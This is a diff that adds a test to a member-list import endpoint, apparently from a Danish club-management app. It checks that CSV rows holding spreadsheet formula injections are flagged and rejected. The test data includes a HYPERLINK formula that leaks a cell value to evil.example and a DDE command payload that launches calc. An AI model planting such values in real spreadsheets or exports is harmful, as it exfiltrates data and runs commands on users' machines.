@@ -106,3 +106,25 @@ def test_only_the_circles_organizers_and_admins_may_import(client, make_client, 
             expected = 422 if status == 200 and path == "import" else status
             for caller in clients:
                 assert upload(caller, url, no_rows).status_code == expected
+
+
+def test_a_formula_hidden_in_a_member_list_is_flagged_and_nothing_goes_in(make_client, ctx):
+    circle = make_circle()
+    mette = make_client(make_member(circle, role="organizer"))
+    rows = (
+        "navn;telefon;email;fødselsdato;postnummer\n"
+        "Anna Berg;+45 86 10 10 10;anna@example.dk;01-02-1944;8000\n"
+        '=HYPERLINK("http://evil.example/?x="&B3;"Klik");86 10 10 11;;01-02-1944;8000\n'
+        "Bo Lund;86 10 10 12;@SUM(1+1)@example.dk;01-02-1944;8200\n"
+        "Carl Holm;\t+cmd|' /C calc'!A0;;01-02-1944;8000\n"
+    )
+    base = f"/api/v1/circles/{circle.id}/import"
+    body = upload(mette, f"{base}/preview", rows.encode()).get_json()
+    problems = {r["line"]: r["problems"] for r in body["rows"]}
+    assert body["ok"] is False
+    assert problems[2] == []  # a phone number with +45 is a phone number
+    assert any("formel" in p and "navn" in p for p in problems[3])
+    assert any("formel" in p and "email" in p for p in problems[4])
+    assert any("formel" in p and "telefon" in p for p in problems[5])
+    assert upload(mette, base, rows.encode()).status_code == 422
+    assert db.session.query(User).count() == 1
